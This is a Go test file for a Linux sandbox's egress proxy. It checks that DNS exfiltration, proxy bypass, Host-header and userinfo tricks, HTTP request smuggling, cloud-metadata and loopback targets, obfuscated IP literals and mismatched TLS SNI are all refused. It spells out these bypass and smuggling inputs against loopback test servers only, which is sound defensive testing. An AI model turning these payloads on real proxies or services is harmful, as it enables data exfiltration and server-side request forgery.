//go:build linux

package qualify

// Governed-egress cases (network.mode: proxy): P19 DNS exfiltration, P20
// request forms, P21 bypassing the proxy, P22 rebinding and internal
// targets, P23 IP literal spellings, P24 SNI vs CONNECT target. Upstreams
// are loopback servers named through the policy's hosts map, with
// allow_private for exactly their addresses.

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
)

func init() {
	Register(Case{ID: "P19", Title: "DNS exfiltration", Applies: linuxKernel, Run: runP19})
	Register(Case{ID: "P20", Title: "request forms", Applies: linuxKernel, Run: runP20})
	Register(Case{ID: "P21", Title: "bypassing the proxy", Applies: linuxKernel, Run: runP21})
	Register(Case{ID: "P22", Title: "rebinding and internal targets", Applies: linuxKernel, Run: runP22})
	Register(Case{ID: "P23", Title: "IP literal spellings", Applies: linuxKernel, Run: runP23})
	Register(Case{ID: "P24", Title: "SNI vs CONNECT target", Applies: linuxKernel, Run: runP24})
}

// proxyRun runs steps in a proxy-mode sandbox with the rules n.
func (e *Env) proxyRun(ctx context.Context, n Egress, flags []string, ss ...step) (Outcome, map[string]stepOut, error) {
	o, err := e.Corral(ctx, Run{Policy: e.policyFor(pol{Network: "proxy", NetRules: n.YAML()}), Flags: flags, Args: e.steps(ss...)})
	return o, parseSteps(o), err
}

// allowedNet allows api.allowed.test on the upstream h only.
func allowedNet(h *Upstream) Egress {
	return Egress{
		Allow:   []Endpoint{{"api.allowed.test", []int{h.Port}}},
		Private: []Endpoint{{h.IP + "/32", []int{h.Port}}},
		Hosts:   map[string]string{"api.allowed.test": h.IP},
	}
}

// curlStep runs curl ARGS (a shell fragment) through the sandbox's proxy
// variables and prints the status it got, or that there is no curl.
func curlStep(label, args string) step {
	return step{Label: label, Shell: "if command -v curl >/dev/null 2>&1; then echo \"code=$(curl -sS -m 10 -o /dev/null -w '%{http_code}' " + args + ")\"; else echo no-curl; fi"}
}

// checkCurl checks a curlStep's status against want ("400|403"); without
// curl in the sandbox there is nothing to check.
func checkCurl(e *Env, r *Result, label string, s stepOut, want string) {
	t := strings.TrimSpace(s.Text)
	if strings.Contains(t, "no-curl") {
		e.Check(r, label, "curl is not in the sandbox: not tried", true, "")
		return
	}
	code := strings.TrimPrefix(grepLine(t, "code="), "code=")
	e.Check(r, label, clip(t, 300), strings.Contains("|"+want+"|", "|"+code+"|"), fmt.Sprintf("%s: status %q, want %s", label, code, want))
}

// checkStatus checks an http step's status against want ("400|403").
func checkStatus(e *Env, r *Result, label string, s stepOut, want string) {
	e.Check(r, label, s.String(), statusIn(s, want), fmt.Sprintf("%s: status %q, want %s", label, s.status(), want))
}

// P19: resolve <data>.exfil.test, dig @<server>, curl http://b.exfil.test.
func runP19(ctx context.Context, e *Env) Result {
	r := newResult()
	h, err := newUpstream("127.0.0.2", 0)
	if err != nil {
		failNow(e, &r, "upstream", err)
		return r
	}
	defer h.Close()
	udp, err := listen("udp", "127.0.0.53:0")
	if err != nil {
		failNow(e, &r, "DNS listener", err)
		return r
	}
	defer udp.Close()
	tcp, err := listen("tcp", "127.0.0.53:"+udp.port())
	if err != nil {
		failNow(e, &r, "DNS listener (tcp)", err)
		return r
	}
	defer tcp.Close()
	tok := newToken()
	audit := filepath.Join(e.TempDir("p19-audit"), "audit.jsonl")
	bname := "b-" + tok + ".exfil.test"
	// The proxy's own resolver is pointed at a recording DNS server
	// (CORRAL_EGRESS_RESOLVER), so every name it resolves is seen; an
	// allowed name outside the hosts map is the control that proves it.
	pdns, err := newRecordingDNS("127.0.0.54:0")
	if err != nil {
		failNow(e, &r, "proxy DNS server", err)
		return r
	}
	defer pdns.Close()
	n := allowedNet(h)
	n.Allow = append(n.Allow, Endpoint{"dnsonly.allowed.test", []int{h.Port}})
	dnsonly := fmt.Sprintf("dnsonly.allowed.test:%d", h.Port)
	o, err := e.Corral(ctx, Run{Policy: e.policyFor(pol{Network: "proxy", NetRules: n.YAML()}), Flags: []string{"--audit", audit},
		Env: []string{"CORRAL_EGRESS_RESOLVER=" + pdns.Addr()},
		Args: e.steps(
			step{Label: "dns", Args: []string{"dns", tok + ".exfil.test", udp.Addr()}},
			// glibc's getent exits 2 for "not found"; an image without
			// it (busybox) has nslookup, which exits 1.
			step{Label: "getent", Shell: "n=getent-" + tok + ".exfil.test; if command -v getent >/dev/null; then getent hosts $n; echo getent=$?; " +
				"elif command -v nslookup >/dev/null; then nslookup $n >/dev/null 2>&1; echo nslookup=$?; else echo no-resolver-tool; fi"},
			httpStep("http-exfil", "GET", "http://"+bname+"/", "Host:"+bname),
			httpStep("connect-exfil", "CONNECT", bname+":443", "Host:"+bname+":443"),
			httpStep("control", "GET", "http://"+h.HostPort("api.allowed.test")+"/", "Host:"+h.HostPort("api.allowed.test")),
			httpStep("dns-control", "GET", "http://"+dnsonly+"/", "Host:"+dnsonly),
		)})
	s := parseSteps(o)
	if err != nil {
		failNow(e, &r, "corral run", err)
		return r
	}
	e.Check(&r, "run (network: proxy, allow api.allowed.test)", brief(o), o.Code == 0 && s["end"].Ran, "the probes did not run")
	checkStatus(e, &r, "control: GET http://api.allowed.test/ through the proxy", s["control"], "200")
	for _, x := range s["dns"].Results {
		if strings.HasSuffix(x.What, " send") {
			e.Check(&r, x.What+" (the listener decides)", show(x), true, "")
			continue
		}
		e.Check(&r, x.What, show(x), !x.OK, x.What+" got an answer")
	}
	g := s["getent"].Text
	e.Check(&r, "getent hosts (or nslookup) getent-<token>.exfil.test", clip(g, 200), strings.Contains(g, "getent=2") || strings.Contains(g, "nslookup=1"), "the system resolver answered a name from inside")
	checkStatus(e, &r, "GET http://b-<token>.exfil.test/ through the proxy", s["http-exfil"], "403")
	host, why := refusal(s["http-exfil"])
	e.Check(&r, "the proxy's refusal names the host it refused", "host "+host+": "+why, host == bname && why != "", "the 403 is not the proxy's JSON refusal for "+bname)
	checkStatus(e, &r, "CONNECT b-<token>.exfil.test:443", s["connect-exfil"], "403")
	settle()
	e.Check(&r, "host: the DNS server saw", fmt.Sprintf("%d datagrams, %d TCP connections", udp.Count(), tcp.Count()), udp.Count() == 0 && tcp.Count() == 0, "the test's DNS server received queries from the sandbox")
	// The proxy resolved the allowed name it had to, and no denied one.
	names := pdns.Names()
	e.Check(&r, "host: names the proxy resolved", strings.Join(names, " "), slices.Contains(names, "dnsonly.allowed.test."), "the proxy did not resolve an allowed name through its resolver: its lookups cannot be observed")
	for _, q := range names {
		if strings.Contains(q, "exfil") {
			e.Check(&r, "host: the proxy resolved "+q, "a query for a denied name", false, "the proxy resolved a denied name")
		}
	}
	evs, err := egressEvents(audit)
	e.Check(&r, "audit: egress events", fmt.Sprintf("%d events (%v)", len(evs), err), err == nil && len(evs) >= 3, "the audit log has no egress events")
	for _, ev := range evs {
		if strings.Contains(ev.Dst.Hostname, "exfil.test") && ev.Dst.IP != "" {
			e.Check(&r, "audit: "+ev.Dst.Hostname, "resolved to "+ev.Dst.IP, false, "the proxy resolved a denied name")
		}
	}
	return r
}

// refusal is the host and reason of the proxy's JSON refusal in an http
// step (Detail "403 BODY"), empty when there is none.
func refusal(s stepOut) (host, reason string) {
	var b struct{ Host, Reason string }
	for _, x := range s.Results {
		if _, body, ok := strings.Cut(x.Detail, " "); ok && strings.HasPrefix(x.What, "http ") {
			_ = json.Unmarshal([]byte(body), &b)
			break
		}
	}
	return b.Host, b.Reason
}

// recordingDNS is a UDP DNS server on loopback that records each question
// name and answers NXDOMAIN (RFC 1035 4.1).
type recordingDNS struct {
	pc    net.PacketConn
	mu    sync.Mutex
	names []string
}

func newRecordingDNS(addr string) (*recordingDNS, error) {
	pc, err := net.ListenPacket("udp", addr)
	if err != nil {
		return nil, err
	}
	d := &recordingDNS{pc: pc}
	go func() {
		buf := make([]byte, 1500)
		for {
			n, from, err := pc.ReadFrom(buf)
			if err != nil {
				return
			}
			if n < 12 {
				continue
			}
			name, end := "", 12
			for end < n && buf[end] != 0 {
				l := int(buf[end])
				if end+1+l > n {
					break
				}
				name += string(buf[end+1:end+1+l]) + "."
				end += 1 + l
			}
			d.mu.Lock()
			d.names = append(d.names, strings.ToLower(name))
			d.mu.Unlock()
			if end+5 > n {
				continue
			}
			resp := append([]byte(nil), buf[:end+5]...)
			resp[2] |= 0x80                // QR
			resp[3] = (resp[3] & 0xf0) | 3 // RCODE NXDOMAIN
			resp[6], resp[7], resp[8], resp[9], resp[10], resp[11] = 0, 0, 0, 0, 0, 0
			pc.WriteTo(resp, from)
		}
	}()
	return d, nil
}

func (d *recordingDNS) Addr() string { return d.pc.LocalAddr().String() }
func (d *recordingDNS) Close()       { d.pc.Close() }
func (d *recordingDNS) Names() []string {
	d.mu.Lock()
	defer d.mu.Unlock()
	return append([]string(nil), d.names...)
}

type egressEvent struct {
	ClassUID int    `json:"class_uid"`
	Action   string `json:"action"`
	Dst      struct {
		Hostname string `json:"hostname"`
		IP       string `json:"ip"`
		Port     int    `json:"port"`
	} `json:"dst_endpoint"`
}

func egressEvents(path string) ([]egressEvent, error) {
	f, err := os.Open(path)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	var out []egressEvent
	sc := bufio.NewScanner(f)
	sc.Buffer(make([]byte, 1<<20), 1<<20)
	for sc.Scan() {
		var ev egressEvent
		if json.Unmarshal(sc.Bytes(), &ev) == nil && ev.ClassUID == 4002 {
			out = append(out, ev)
		}
	}
	return out, sc.Err()
}

// P20: absolute-form to a denied host, Host header differing from the
// target, HTTP/1.0 without Host, userinfo.
func runP20(ctx context.Context, e *Env) Result {
	r := newResult()
	h, err := newUpstream("127.0.0.2", 0)
	if err != nil {
		failNow(e, &r, "upstream", err)
		return r
	}
	defer h.Close()
	evil, err := newUpstream("127.0.0.4", 0)
	if err != nil {
		failNow(e, &r, "evil upstream", err)
		return r
	}
	defer evil.Close()
	n := allowedNet(h)
	n.Private = append(n.Private, Endpoint{evil.IP + "/32", []int{evil.Port}})
	n.Hosts["evil.test"] = evil.IP
	good, bad := h.HostPort("api.allowed.test"), evil.HostPort("evil.test")
	cases := []struct {
		label string
		st    step
		want  string
	}{
		{"control", httpStep("control", "GET", "http://"+good+"/", "Host:"+good), "200"},
		{"control HTTP/1.0", httpStep("control HTTP/1.0", "GET", "http://"+good+"/", "proto:HTTP/1.0"), "200"},
		{"absolute-form GET http://evil.test/", httpStep("absolute-form GET http://evil.test/", "GET", "http://"+bad+"/", "Host:"+bad), "403"},
		{"Host header differs from the target", httpStep("Host header differs from the target", "GET", "http://"+good+"/", "Host:"+bad), "400"},
		{"Host header differs in the port", httpStep("Host header differs in the port", "GET", "http://"+good+"/", "Host:api.allowed.test:1"), "400"},
		{"two Host headers", httpStep("two Host headers", "GET", "http://"+good+"/", "Host:"+good, "Host:"+bad), "400"},
		{"HTTP/1.0 without Host to evil.test", httpStep("HTTP/1.0 without Host to evil.test", "GET", "http://"+bad+"/", "proto:HTTP/1.0"), "403"},
		{"userinfo http://api.allowed.test@evil.test/", httpStep("userinfo http://api.allowed.test@evil.test/", "GET", "http://api.allowed.test@"+bad+"/", "Host:"+bad), "400|403"},
		{"userinfo with port", httpStep("userinfo with port", "GET", "http://"+good+"@"+bad+"/", "Host:"+bad), "400|403"},
		{"origin-form with Host: evil.test", httpStep("origin-form with Host: evil.test", "GET", "/", "Host:"+bad), "400|403"},
		{"CONNECT evil.test", httpStep("CONNECT evil.test", "CONNECT", bad, "Host:"+bad), "403"},
		{"CONNECT with userinfo", httpStep("CONNECT with userinfo", "CONNECT", "api.allowed.test@"+bad, "Host:"+bad), "400|403"},
		{"percent-encoded host", httpStep("percent-encoded host", "GET", "http://evil%2etest:"+strconv.Itoa(evil.Port)+"/", "Host:"+bad), "400|403"},
		{"trailing-dot host", httpStep("trailing-dot host", "GET", "http://evil.test.:"+strconv.Itoa(evil.Port)+"/", "Host:evil.test.:"+strconv.Itoa(evil.Port)), "400|403"},
		{"https scheme in absolute-form", httpStep("https scheme in absolute-form", "GET", "https://"+bad+"/", "Host:"+bad), "400|403"},
		{"origin-form with the allowed Host", httpStep("origin-form with the allowed Host", "GET", "/", "Host:"+good), "400|403"},
		{"backslash before @", httpStep("backslash before @", "GET", "http://"+good+`\@`+bad+"/", "Host:"+good), "400|403"},
		{"two spaces in the request line", httpStep("two spaces in the request line", "GET", " http://"+bad+"/"), "400|403"},
		// The last header ends the head and smuggles a second request.
		{"Content-Length and Transfer-Encoding (smuggling)", httpStep("Content-Length and Transfer-Encoding (smuggling)", "GET", "http://"+good+"/", "Host:"+good, "Content-Length:5",
			"Transfer-Encoding:chunked\r\n\r\n0\r\n\r\nGET http://"+bad+"/ HTTP/1.1\r\nHost: "+bad), "400|403"},
	}
	var ss []step
	for _, c := range cases {
		ss = append(ss, c.st)
	}
	// A real client, where the image has one: curl with userinfo, and
	// with a Host header naming another host.
	curls := []struct{ label, args, want string }{
		{"curl http://api.allowed.test@evil.test/", "http://api.allowed.test@" + bad + "/", "403"},
		{"curl -H 'Host: evil.test' http://api.allowed.test/", "-H " + shq("Host: "+bad) + " http://" + good + "/", "400"},
	}
	for _, c := range curls {
		ss = append(ss, curlStep(c.label, c.args))
	}
	o, s, err := e.proxyRun(ctx, n, nil, ss...)
	if err != nil {
		failNow(e, &r, "corral run", err)
		return r
	}
	e.Check(&r, "run (network: proxy, allow api.allowed.test; evil.test mapped and covered by allow_private but not allowed)", brief(o), o.Code == 0 && s["end"].Ran, "the probes did not run")
	for _, c := range cases {
		checkStatus(e, &r, c.label, s[c.label], c.want)
	}
	for _, c := range curls {
		checkCurl(e, &r, c.label, s[c.label], c.want)
	}
	t := evil.Touched()
	e.Check(&r, "host: the evil upstream", "reached: "+t, t == "", "the evil upstream was reached: "+t)
	return r
}

// P21: no proxy variables / NO_PROXY=*: raw TCP to the upstream's IP,
// host loopback services, IPv6, port 3128 elsewhere, UDP, abstract unix.
func runP21(ctx context.Context, e *Env) Result {
	hostWide.Lock()
	defer hostWide.Unlock()
	r := newResult()
	h, err := newUpstream("127.0.0.2", 0)
	if err != nil {
		failNow(e, &r, "upstream", err)
		return r
	}
	defer h.Close()
	var ctrs []*counter
	defer func() {
		for _, c := range ctrs {
			c.Close()
		}
	}()
	var tcpT, udpT, absT []string
	add := func(network, addr string) {
		ln := network
		if network == "abstract" {
			ln = "unix"
		}
		c, err := listen(ln, addr)
		if err != nil {
			e.Check(&r, "host: listen "+network+" "+addr, err.Error(), true, "")
			return
		}
		ctrs = append(ctrs, c)
		switch network {
		case "tcp":
			tcpT = append(tcpT, c.Addr())
		case "udp":
			udpT = append(udpT, c.Addr())
		default:
			absT = append(absT, c.Addr())
		}
	}
	add("tcp", "127.0.0.1:0")
	add("tcp", "[::1]:0")
	add("tcp", "127.0.0.5:3128") // the port Landlock lets through: only topology stops it
	add("tcp", "[::1]:3128")
	add("udp", "127.0.0.53:0")
	add("abstract", "@"+e.uniqueName())
	if addrs, err := net.InterfaceAddrs(); err == nil {
		for _, a := range addrs {
			if ipn, ok := a.(*net.IPNet); ok && !ipn.IP.IsLoopback() && !ipn.IP.IsLinkLocalUnicast() && !ipn.IP.IsMulticast() {
				add("tcp", net.JoinHostPort(ipn.IP.String(), "0")) // the host's own address: local delivery only
				add("tcp", net.JoinHostPort(ipn.IP.String(), "3128"))
			}
		}
	}
	hAddr := net.JoinHostPort(h.IP, strconv.Itoa(h.Port))
	tcpT = append([]string{hAddr}, tcpT...)
	unset := "env -u HTTP_PROXY -u http_proxy -u HTTPS_PROXY -u https_proxy -u ALL_PROXY -u all_proxy "
	// A real client, where the image has one, told to go around the proxy.
	curls := []struct{ label, cmd string }{
		{"curl without the proxy variables, by name", unset + "curl -sS -m 5 http://" + h.HostPort("api.allowed.test") + "/"},
		{"curl without the proxy variables, by address", unset + "curl -sS -m 5 http://" + hAddr + "/"},
		{"curl with NO_PROXY=*", "NO_PROXY='*' no_proxy='*' curl -sS -m 5 http://" + hAddr + "/"},
		{"curl --noproxy '*'", "curl --noproxy '*' -sS -m 5 http://" + hAddr + "/"},
	}
	curlSh := "command -v curl >/dev/null 2>&1 || { echo no-curl; exit 0; }\n"
	for i, c := range curls {
		curlSh += fmt.Sprintf("%s >/dev/null 2>&1; echo \"curl%d=$?\"\n", c.cmd, i)
	}
	ss := []step{
		{Label: "curl", Shell: "(" + curlSh + ")"},
		{Label: "direct tcp", Shell: unset + "NO_PROXY='*' no_proxy='*' " + e.probeLine(append([]string{"connect", "tcp"}, tcpT...)...)},
		{Label: "udp", Args: append([]string{"connect", "udp"}, udpT...)},
		httpStep("control", "GET", "http://"+h.HostPort("api.allowed.test")+"/", "Host:"+h.HostPort("api.allowed.test")),
	}
	if len(absT) > 0 {
		ss = append(ss, step{Label: "abstract", Args: append([]string{"connect", "abstract"}, absT...)})
	}
	o, s, err := e.proxyRun(ctx, allowedNet(h), nil, ss...)
	if err != nil {
		failNow(e, &r, "corral run", err)
		return r
	}
	e.Check(&r, "run (network: proxy, allow api.allowed.test)", brief(o), o.Code == 0 && s["end"].Ran, "the probes did not run")
	checkStatus(e, &r, "control: the same upstream through the proxy", s["control"], "200")
	for _, k := range []string{"direct tcp", "abstract"} {
		if k == "abstract" && len(absT) == 0 {
			continue
		}
		if !s[k].reported() {
			mustFail(e, &r, k, s[k], "")
		}
		for _, x := range s[k].Results {
			e.Check(&r, x.What+" (proxy variables unset, NO_PROXY=*)", show(x), !x.OK, x.What+" succeeded: a route around the proxy")
		}
	}
	for _, x := range s["udp"].Results {
		e.Check(&r, x.What+" (the listener decides)", show(x), true, "")
	}
	ct := s["curl"].Text
	for i, c := range curls {
		if strings.Contains(ct, "no-curl") {
			e.Check(&r, c.label, "curl is not in the sandbox: not tried", true, "")
			continue
		}
		v := strings.TrimPrefix(grepLine(ct, fmt.Sprintf("curl%d=", i)), fmt.Sprintf("curl%d=", i))
		e.Check(&r, c.label, "curl exit "+v, v != "" && v != "0" && v != "(none)", c.label+" reached the upstream")
	}
	settle()
	// The upstream saw exactly the control's connection.
	reqs := h.Requests()
	ctl := int32(0)
	if statusIn(s["control"], "200") {
		ctl = 1
	}
	e.Check(&r, "host: the upstream saw", fmt.Sprintf("%d connections (%d from the control through the proxy), requests %q", h.Accepts.Load(), ctl, reqs), h.Accepts.Load() <= ctl && int32(len(reqs)) <= ctl, "the upstream was reached without the proxy")
	for _, c := range ctrs {
		e.Check(&r, "host: "+c.network+" "+c.Addr()+" saw", strconv.Itoa(c.Count()), c.Count() == 0, "host listener "+c.Addr()+" was reached from the sandbox")
	}
	return r
}

// loopbackPair starts an upstream on 127.0.0.1 (a free port) and one on
// [::1] at the same port; lo6 is nil, with err6, when the host has no IPv6
// loopback.
func loopbackPair() (lo, lo6 *Upstream, err6, err error) {
	if lo, err = newUpstream("127.0.0.1", 0); err != nil {
		return nil, nil, nil, err
	}
	lo6, err6 = newUpstream("::1", lo.Port)
	return lo, lo6, err6, nil
}

// checkUntouched records that neither loopback listener saw a connection;
// failure is the message, with %s the listener's name, plus what reached it.
func checkUntouched(e *Env, r *Result, lo, lo6 *Upstream, failure string) {
	for _, l := range []struct {
		name, label string
		u           *Upstream
	}{{"loopback", "127.0.0.1", lo}, {"[::1]", "[::1]", lo6}} {
		if l.u == nil {
			continue
		}
		t := l.u.Touched()
		e.Check(r, "host: the "+l.label+" listener", "reached: "+t, t == "", fmt.Sprintf(failure, l.name)+t)
	}
}

// P22: allowed names mapped to loopback, metadata, RFC 1918, ::1,
// ::ffff:127.0.0.1, 0.0.0.0.
func runP22(ctx context.Context, e *Env) Result {
	r := newResult()
	lo, lo6, err6, err := loopbackPair()
	if err != nil {
		failNow(e, &r, "upstream", err)
		return r
	}
	defer lo.Close()
	defer lo6.Close() // nil-safe
	if err6 != nil {
		e.Check(&r, "host: [::1] listener", err6.Error(), true, "")
	}
	port := lo.Port
	targets := []struct{ name, ip string }{
		{"r-loopback.test", "127.0.0.1"}, {"r-metadata.test", "169.254.169.254"}, {"r-rfc1918.test", "10.0.0.1"},
		{"r-ipv6-lo.test", "::1"}, {"r-v4mapped.test", "::ffff:127.0.0.1"}, {"r-unspec.test", "0.0.0.0"},
	}
	n := Egress{Hosts: map[string]string{}}
	var ss []step
	for _, t := range targets {
		n.Allow = append(n.Allow, Endpoint{t.name, []int{port}})
		n.Hosts[t.name] = t.ip
		hp := net.JoinHostPort(t.name, strconv.Itoa(port))
		ss = append(ss, httpStep("GET "+t.name+" -> "+t.ip, "GET", "http://"+hp+"/", "Host:"+hp), httpStep("CONNECT "+t.name+" -> "+t.ip, "CONNECT", hp, "Host:"+hp))
	}
	o, s, err := e.proxyRun(ctx, n, nil, ss...)
	if err != nil {
		failNow(e, &r, "corral run", err)
		return r
	}
	e.Check(&r, "run (each name allowed, mapped by hosts, no allow_private)", brief(o), o.Code == 0 && s["end"].Ran, "the probes did not run")
	for _, st := range ss {
		checkStatus(e, &r, st.Label, s[st.Label], "403")
	}
	checkUntouched(e, &r, lo, lo6, "the host's %s listener was reached: ")
	// Control: the same name is reachable once allow_private covers it.
	n = Egress{Allow: []Endpoint{{"r-loopback.test", []int{port}}}, Private: []Endpoint{{"127.0.0.1/32", []int{port}}}, Hosts: map[string]string{"r-loopback.test": "127.0.0.1"}}
	hp := net.JoinHostPort("r-loopback.test", strconv.Itoa(port))
	o, s, err = e.proxyRun(ctx, n, nil, httpStep("control", "GET", "http://"+hp+"/", "Host:"+hp))
	if err == nil {
		checkStatus(e, &r, "control: r-loopback.test with allow_private 127.0.0.1/32", s["control"], "200")
	} else {
		failNow(e, &r, "control run", err)
	}
	_ = o
	return r
}

// P23: 127.1, 2130706433, 0x7f000001, [::ffff:7f00:1], 0.0.0.0, [::] ...
func runP23(ctx context.Context, e *Env) Result {
	r := newResult()
	lo, lo6, _, err := loopbackPair()
	if err != nil {
		failNow(e, &r, "upstream", err)
		return r
	}
	defer lo.Close()
	defer lo6.Close() // nil-safe
	port := lo.Port
	p := strconv.Itoa(port)
	numeric := []string{"127.1", "2130706433", "0x7f000001", "0177.0.0.1", "127.0.0.01", "127.000.000.001", "0x7f.0.0.1", "0.0.0.0", "[::]", "0"}
	steps := func(spellings []string, control bool) []step {
		var ss []step
		if control {
			ss = append(ss, httpStep("control GET", "GET", "http://127.0.0.1:"+p+"/", "Host:127.0.0.1:"+p),
				httpStep("control CONNECT", "CONNECT", "127.0.0.1:"+p, "Host:127.0.0.1:"+p, "sni:"))
		}
		for _, s := range spellings {
			a := s + ":" + p
			ss = append(ss, httpStep("GET "+a, "GET", "http://"+a+"/", "Host:"+a), httpStep("CONNECT "+a, "CONNECT", a, "Host:"+a))
		}
		return ss
	}
	// As written: only api.allowed.test is allowed; allow_private covers
	// 127.0.0.1 and ::1, so only the allow rules stand in the way.
	n := Egress{
		Allow:   []Endpoint{{"api.allowed.test", []int{port}}},
		Private: []Endpoint{{"127.0.0.1/32", []int{port}}, {"::1/128", []int{port}}},
		Hosts:   map[string]string{"api.allowed.test": "127.0.0.2"},
	}
	ss := steps(append(append([]string{}, numeric...), "127.0.0.1", "[::ffff:7f00:1]", "[::ffff:127.0.0.1]", "[0:0:0:0:0:ffff:7f00:1]", "[::1]", "127.0.0.1."), false)
	o, s, err := e.proxyRun(ctx, n, nil, ss...)
	if err != nil {
		failNow(e, &r, "corral run", err)
		return r
	}
	e.Check(&r, "run (allow api.allowed.test only; allow_private 127.0.0.1, ::1)", brief(o), o.Code == 0 && s["end"].Ran, "the probes did not run")
	for _, st := range ss {
		checkStatus(e, &r, "as written: "+st.Label, s[st.Label], "400|403")
	}
	checkUntouched(e, &r, lo, lo6, "a spelling reached the host's %s listener: ")
	// Strict: 127.0.0.1 itself is allowed; the other spellings of it must
	// still be refused, not canonicalised into the allowed address.
	n = Egress{Allow: []Endpoint{{"127.0.0.1", []int{port}}}, Private: []Endpoint{{"127.0.0.1/32", []int{port}}}}
	before := lo.Accepts.Load()
	ss = steps(numeric, true)
	o, s, err = e.proxyRun(ctx, n, nil, ss...)
	if err != nil {
		failNow(e, &r, "corral run (strict)", err)
		return r
	}
	checkStatus(e, &r, "strict: control GET http://127.0.0.1/ (allowed)", s["control GET"], "200")
	checkStatus(e, &r, "strict: control CONNECT 127.0.0.1 (allowed)", s["control CONNECT"], "200")
	for _, st := range ss[2:] {
		checkStatus(e, &r, "strict: "+st.Label, s[st.Label], "400|403")
	}
	settle()
	// The control GET connects; the control CONNECT may not (the proxy can
	// wait for the client's first bytes before dialing).
	got := lo.Accepts.Load() - before
	e.Check(&r, "host: the 127.0.0.1 listener (strict run)", fmt.Sprintf("%d connections (the controls': 1 or 2)", got), got >= 1 && got <= 2, "a non-canonical spelling reached the allowed address, or the controls did not reach it")
	checkUntouched(e, &r, nil, lo6, "strict: a spelling reached the host's %s listener: ")
	return r
}

// P24: CONNECT api.allowed.test:443, then a ClientHello with SNI
// evil.test (and none).
func runP24(ctx context.Context, e *Env) Result {
	r := newResult()
	s0, err := newUpstream("127.0.0.3", 0, "tls.allowed.test", "evil.test")
	if err != nil {
		failNow(e, &r, "TLS upstream", err)
		return r
	}
	defer s0.Close()
	n := Egress{
		Allow:   []Endpoint{{"tls.allowed.test", []int{s0.Port}}, {s0.IP, []int{s0.Port}}},
		Private: []Endpoint{{s0.IP + "/32", []int{s0.Port}}},
		Hosts:   map[string]string{"tls.allowed.test": s0.IP},
	}
	target := s0.HostPort("tls.allowed.test")
	ipTarget := s0.HostPort(s0.IP)
	cases := []struct {
		label, target, sni string
		open               bool
	}{
		{"SNI evil.test", target, "evil.test", false},
		{"no SNI", target, "", false},
		{"SNI tls.allowed.test.evil.test", target, "tls.allowed.test.evil.test", false},
		{"SNI the IP", target, s0.IP, false},
		{"IP-literal target, SNI evil.test", ipTarget, "evil.test", false},
		{"control: SNI tls.allowed.test", target, "tls.allowed.test", true},
		{"control: IP-literal target, no SNI", ipTarget, "", true},
	}
	var ss []step
	for _, c := range cases {
		ss = append(ss, httpStep(c.label, "CONNECT", c.target, "Host:"+c.target, "sni:"+c.sni))
	}
	// A real client, where the image has one.
	const openssl = "openssl s_client -proxy ... -servername evil.test"
	ss = append(ss, step{Label: openssl, Shell: "if command -v openssl >/dev/null 2>&1; then openssl s_client -proxy " + proxyAddr + " -connect " + target +
		" -servername evil.test </dev/null >/dev/null 2>&1; echo openssl=$?; else echo no-openssl; fi"})
	o, s, err := e.proxyRun(ctx, n, nil, ss...)
	if err != nil {
		failNow(e, &r, "corral run", err)
		return r
	}
	e.Check(&r, "run (allow tls.allowed.test and its IP)", brief(o), o.Code == 0 && s["end"].Ran, "the probes did not run")
	for _, c := range cases {
		st := s[c.label]
		tr, found := find(st.Results, "tls ")
		got := st.String()
		if c.open {
			e.Check(&r, "CONNECT "+c.target+", "+c.label, got, found && tr.OK && strings.Contains(tr.Detail, "received"), c.label+": the tunnel did not carry the TLS handshake")
			continue
		}
		// Secure: the CONNECT itself refused, or the tunnel closed on
		// the ClientHello.
		closed := (st.reported() && !st.anyOK()) || (found && !tr.OK)
		e.Check(&r, "CONNECT "+c.target+", "+c.label, got, closed, c.label+": the tunnel stayed open")
	}
	if t := strings.TrimSpace(s[openssl].Text); t == "no-openssl" {
		e.Check(&r, openssl, "openssl is not in the sandbox: not tried", true, "")
	} else {
		e.Check(&r, openssl, t, strings.HasPrefix(t, "openssl=") && t != "openssl=0", "openssl completed a handshake naming evil.test through the tunnel")
	}
	settle()
	h := s0.Hellos.Load()
	e.Check(&r, "host: TLS ClientHellos the upstream saw", fmt.Sprintf("%d (the 2 controls')", h), h == 2, "a ClientHello with a wrong SNI reached the upstream, or a control's did not")
	return r
}
